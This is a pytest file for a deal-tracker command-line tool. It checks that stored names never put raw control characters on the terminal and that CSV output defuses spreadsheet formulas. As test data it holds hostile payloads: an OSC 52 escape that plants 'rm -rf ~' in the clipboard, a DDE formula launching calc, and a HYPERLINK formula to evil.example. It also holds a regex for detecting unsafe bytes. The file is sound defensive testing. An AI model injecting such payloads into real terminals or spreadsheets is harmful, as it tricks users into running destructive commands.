"""What the CLI prints from the data (issue 17): control characters never reach the terminal raw (#17.13:
the import's summary, warnings and bad rows, the `list` table, `totals` text, JSON, and CSV or an export
written to a terminal), and every CSV it writes defuses formulas the way `export` does (#17.14). The tests
capture the raw bytes each path writes, on SQLite and PostgreSQL.

Names with control characters are refused on input, so the hostile names are written into the tables
directly: data already stored (or restored) must still be shown safely.
"""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import re
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest
from sqlalchemy import text

from tests.support.processes import no_traceback, tracker_args, tracker_env
from tracker.core.csvio.seed import load_seed
from tracker.core.storage.opening import open_database

Raw = Callable[..., tuple[int, bytes, bytes]]
EVIL = "Evil\x1b]52;c;cm0gLXJmIH4=\x07 Corp"  # writes `rm -rf ~` into the clipboard through tmux
CLEAR = "\x1b[2J\x1b[H"
C1 = "\x9b31m"  # CSI as one C1 character
BIDI = "\u202egnp.exe"
# what must never come out raw: ESC, BEL, any other C0 but tab / line breaks, DEL, C1 (as UTF-8), bidi overrides
UNSAFE = re.compile(rb"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80[\xaa-\xae]|\xe2\x81[\xa6-\xa9]")


def _unsafe(data: bytes) -> list[bytes]:
    return UNSAFE.findall(data)


@pytest.fixture
def raw(db_target: str) -> Raw:
    """Run `tracker` on this test's database: (exit code, stdout bytes, stderr bytes)."""

    def run(*args: str, input: bytes | None = None) -> tuple[int, bytes, bytes]:
        proc = subprocess.run(tracker_args(db_target, *args), input=input, capture_output=True, env=tracker_env(),
                              timeout=120)  # fmt: skip
        return proc.returncode, proc.stdout, proc.stderr

    return run


def _hostile(db_target: str) -> None:
    """The seed, with hostile names and text stored as if restored from an old backup."""
    db = open_database(db_target, populate=load_seed)
    try:
        with db.write() as conn:
            conn.execute(text("UPDATE organization SET name = :n WHERE name = 'Nvidia'"), {"n": EVIL})
            conn.execute(text("UPDATE organization SET name = :n WHERE name = 'Oracle'"), {"n": "Or" + CLEAR + "acle"})
            conn.execute(text("UPDATE organization SET name = :n WHERE name = 'OpenAI'"), {"n": "Open" + C1 + BIDI})
            conn.execute(text("UPDATE organization SET country = :c WHERE name = 'Alibaba'"), {"c": "Ch" + CLEAR})
            conn.execute(text("UPDATE deal SET description = :d, status = :s WHERE kind = 'partnership'"),
                         {"d": "desc " + EVIL, "s": "x\x1bc"})  # fmt: skip
    finally:
        db.dispose()


@pytest.mark.parametrize(
    "args",
    [
        ["list"],
        ["list", "--format", "json"],
        ["totals"],
        ["totals", "--by", "org"],
        ["totals", "--by", "country"],
        ["totals", "--by", "group"],
        ["totals", "--format", "json"],
    ],
    ids=lambda a: " ".join(a),
)
def test_stored_control_characters_never_reach_the_terminal(raw: Raw, db_target: str, args: list[str]) -> None:
    _hostile(db_target)
    code, out, err = raw(*args)
    assert code == 0, err
    assert _unsafe(out) == [] and _unsafe(err) == [], (out, err)
    shown = out.decode()
    if args[-1] == "json":
        data = json.loads(shown)  # the same data, escaped the JSON way
        assert any(EVIL in value for value in _strings(data))
    else:
        assert "Evil\\x1b]52;c;cm0gLXJmIH4=\\x07 Corp" in shown or args[-1] in ("country",)


def _strings(data: object) -> list[str]:
    if isinstance(data, str):
        return [data]
    if isinstance(data, dict):
        data = list(data.values())
    return [s for item in data for s in _strings(item)] if isinstance(data, list) else []


def test_the_import_summary_warnings_and_bad_rows_are_shown_visibly(raw: Raw, tmp_path: Path) -> None:
    header = f"date,kind,from_org,to_org,amount,col{CLEAR}umn,{EVIL}\n".encode()
    good = header + b"2025-01-01,investment,Acme,Beta,5,x,y\n"
    code, out, err = raw("import", "-", input=good)
    assert code == 0, err
    assert _unsafe(out) == [] and _unsafe(err) == [], (out, err)
    assert "ignored unknown columns: col\\x1b[2J\\x1b[Humn" in out.decode()
    bad = header + f"2025-01-01,investment,Acme,Beta,{CLEAR}5{C1},x,y\n2025-13-01,investment,A{EVIL},B,1,,\n".encode()
    code, out, err = raw("import", "-", input=bad)
    assert code == 1
    no_traceback(err.decode())
    assert _unsafe(out) == [] and _unsafe(err) == [], (out, err)
    assert "line 2" in err.decode() and "line 3" in err.decode()
    folder = tmp_path / "bundle"
    folder.mkdir()
    (folder / "organizations.csv").write_text(f"name,{EVIL}\nGood Co,x\nBad{CLEAR},y\n", encoding="utf-8")
    code, out, err = raw("import", "--all", str(folder))
    assert _unsafe(out) == [] and _unsafe(err) == [], (out, err)


def _on_a_terminal(db_target: str, *args: str) -> bytes:
    """What `tracker ARGS` writes to standard output when it is a terminal (a pty)."""
    leader, follower = pty.openpty()
    try:
        proc = subprocess.Popen(tracker_args(db_target, *args), stdout=follower, stderr=subprocess.PIPE,
                                env=tracker_env())  # fmt: skip
        os.close(follower)
        chunks = []
        while True:
            try:
                chunk = os.read(leader, 1 << 16)
            except OSError:  # EIO: the other side is closed
                break
            if not chunk:
                break
            chunks.append(chunk)
        assert proc.wait(timeout=120) == 0, proc.stderr.read() if proc.stderr else b""
        return b"".join(chunks)
    finally:
        os.close(leader)


@pytest.mark.parametrize("args", [["list", "--format", "csv"], ["totals", "--format", "csv"], ["export"]],
                         ids=lambda a: " ".join(a))  # fmt: skip
def test_csv_and_the_export_on_a_terminal_show_control_characters(db_target: str, args: list[str]) -> None:
    _hostile(db_target)
    shown = _on_a_terminal(db_target, *args)
    assert _unsafe(shown) == [], shown
    assert b"Evil\\x1b]52" in shown
    piped = subprocess.run(tracker_args(db_target, *args), capture_output=True, env=tracker_env(), timeout=120)
    assert EVIL.encode() in piped.stdout  # into a file or a pipe: the data exactly


# ---------------------------------------------------------------------------------------------
# Formulas (#17.14)

FORMULAS = ['=HYPERLINK("http://evil.example/?x")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "'=already quoted"]


def test_every_csv_the_program_writes_defuses_formulas_as_export_does(raw: Raw) -> None:
    for i, name in enumerate(FORMULAS):
        code, _out, err = raw("add", "--kind", "investment", "--from", name, "--to", f"Target {i}", "--amount",
                              "$5", "--date", f"2025-02-0{i + 1}", "--description", name)  # fmt: skip
        assert code == 0, err
    exported = {r["id"]: r for r in csv.DictReader(io.StringIO(raw("export")[1].decode()))}
    listed = list(csv.DictReader(io.StringIO(raw("list", "--format", "csv")[1].decode())))
    assert len(listed) == len(exported)
    for row in listed:
        for column in ("from_org", "to_org", "description", "source_outlet", "source_title", "kind", "status"):
            assert row[column] == exported[row["id"]][column], (column, row[column])
    cells = [row["from_org"] for row in listed if row["to_org"].startswith("Target")]
    assert sorted(cells) == sorted("'" + name for name in FORMULAS)
    totals = list(csv.reader(io.StringIO(raw("totals", "--by", "org", "--format", "csv")[1].decode())))
    labels = {r[0] for r in totals[1:]}
    assert {"'" + name for name in FORMULAS} <= labels
    assert not [label for label in labels if label[:1] in "=+-@"]
    rates = list(csv.reader(io.StringIO(raw("fx", "list", "--format", "csv")[1].decode())))
    assert not [cell for row in rates for cell in row if cell[:1] in "=+-@\t\r"]


def test_list_table_shows_names_as_they_are(raw: Raw) -> None:
    code, out, _ = raw("add", "--kind", "investment", "--from", "Acme [bold]", "--to", "=Beta", "--date", "2025-03-01")
    assert code == 0
    code, out, err = raw("list")
    assert code == 0 and "Acme [bold]" in out.decode() and "=Beta" in out.decode(), err  # for people: as they are
